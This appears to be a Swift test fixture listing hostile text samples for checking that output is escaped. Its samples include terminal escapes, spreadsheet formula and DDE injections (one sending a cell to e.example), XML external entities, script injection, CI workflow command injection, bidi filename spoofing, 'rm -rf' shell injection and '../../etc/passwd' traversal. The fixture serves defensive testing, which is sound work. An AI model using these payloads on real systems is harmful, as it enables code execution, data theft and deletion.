import Testing

/// A text that tries to break out of what it is printed in.
struct HostileText: Sendable, CustomTestStringConvertible {
  let name: String
  let bytes: [UInt8]

  var testDescription: String { name }

  init(_ name: String, _ text: String) {
    self.init(name, Array(text.utf8))
  }

  init(_ name: String, _ bytes: [UInt8]) {
    self.name = name
    self.bytes = bytes
  }

  static let all: [HostileText] = [
    HostileText("colors", "\u{1b}[31mred\u{1b}[0m"),
    HostileText("a terminal's title", "\u{1b}]0;title\u{7}\u{1b}]8;;http://e.example\u{1b}\\link"),
    HostileText("cursor", "x\u{1b}[2J\u{1b}[1;1H\u{8}\u{8}\r overwritten"),
    HostileText("C1 controls", "\u{9b}31mred\u{9d}0;title\u{9c}\u{85}"),
    HostileText("C1 bytes", [0x78, 0x9b, 0x33, 0x31, 0x6d, 0x85]),
    HostileText("formula", "=HYPERLINK(\"http://e.example?\"&A1,\"x\")"),
    HostileText("plus", "+1+cmd|' /C calc'!A0"),
    HostileText("minus", "-2+3+cmd|' /C calc'!A0"),
    HostileText("at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    HostileText("wide formula", "＝1+1"),
    HostileText("tab", "\t=1+1\tnext"),
    HostileText("CR", "\r=1+1\rnext"),
    HostileText("lines", "one\ntwo\r\n=three\n\n"),
    HostileText("quotes", "a\"b'c\"\"d`e\\f\\\"g"),
    HostileText("separators", "a,b;c\td|e"),
    HostileText("CDATA", "<![CDATA[x]]>]]>"),
    HostileText("XML", "<!DOCTYPE x [<!ENTITY e SYSTEM \"file://etc\">]>&e;&amp;&#0;<!-- -- -->"),
    HostileText("attribute", "\" onload=\"alert(1)\" '><x y='"),
    HostileText("HTML", "</script><script>alert(1)</script><img src=x onerror=alert(1)>"),
    HostileText("JSON", "\",\"injected\":true,\"x\":\"\\u0000\\"),
    HostileText("workflow command", "::error file=x,line=1::injected\n::set-output name=x::y"),
    HostileText("workflow command behind spaces", " \u{a0}::stop-commands::x"),
    HostileText("workflow escapes", "x%0A::error::injected%0D%25,title=y::"),
    HostileText("old workflow command", "##[error]x ##[set-output name=x;]y ##vso[task.x]z"),
    HostileText("SARIF", "{0} {{1}} [click](http://e.example) {"),
    HostileText("bytes that are no text", [0x78, 0xff, 0xfe, 0xc0, 0x80, 0xf5, 0xe2, 0x82]),
    HostileText("lone surrogates", [0x78, 0xed, 0xa0, 0x80, 0x79, 0xed, 0xbf, 0xbf]),
    HostileText("NUL", [0x61, 0, 0x62, 0, 0]),
    HostileText("bidi", "photo\u{202e}gpj.exe\u{202c} \u{2066}x\u{2067}y\u{2068}z\u{2069}\u{200f}"),
    HostileText("all of bidi", "\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{61c}\u{200e}"),
    HostileText("nothing to be seen", "\u{feff}a\u{200b}b\u{2060}c\u{ad}d\u{180e}e\u{feff}"),
    HostileText("letters that nobody sees", "a\u{3164}b\u{115f}\u{1160}c\u{ffa0}d\u{34f}e"),
    HostileText("lines of Unicode", "a\u{2028}b\u{2029}c"),
    HostileText("tags", "a\u{e0041}\u{e0001}b\u{fff9}c\u{fffb}"),
    HostileText("controls of music and shorthand", "a\u{1d173}b\u{1d17a}c\u{1bca0}d\u{1bca3}"),
    HostileText(
      "no characters",
      [0x61, 0xef, 0xbf, 0xbf, 0xef, 0xbf, 0xbe, 0xef, 0xb7, 0x90, 0xf4, 0x8f, 0xbf, 0xbf]),
    HostileText("private", "a\u{e000}\u{10ff80}\u{10ff9b}b"),
    HostileText("combined", "e" + String(repeating: "\u{301}", count: 500)),
    HostileText("wide", String(repeating: "写😀가Ａ", count: 40)),
    HostileText("words of the shell", "$(touch x) `touch x` ; rm -rf * | x & \n -rf"),
    HostileText("options", "--help"),
    HostileText("a path", "../../etc/passwd"),
    HostileText("a format", "%s%n%x\\033[31m"),
    HostileText("nothing", " "),
  ]

  /// One of each kind, where what is printed of it comes by few ways.
  static let kinds: [HostileText] = all.filter { namesOfKinds.contains($0.name) }

  static let namesOfKinds = [
    "colors", "a terminal's title", "C1 controls", "lines", "workflow command",
    "old workflow command", "bytes that are no text", "lone surrogates", "bidi",
  ]

  /// As the name of a file, which has neither NUL nor slash; a point at its start would hide it from
  /// the shell.
  var asFileName: [UInt8] {
    let name = bytes.filter { $0 != 0 }.map { $0 == 0x2f ? 0x5f : $0 }.prefix(200)
    return (name.first == 0x2e ? [0x5f] : []) + name + Array(".jpg".utf8)
  }

  /// What a reader of text makes of it up to its first NUL; nil where that is no UTF-8.
  var asText: String? {
    String(validating: bytes.prefix { $0 != 0 }, as: UTF8.self)
  }
}
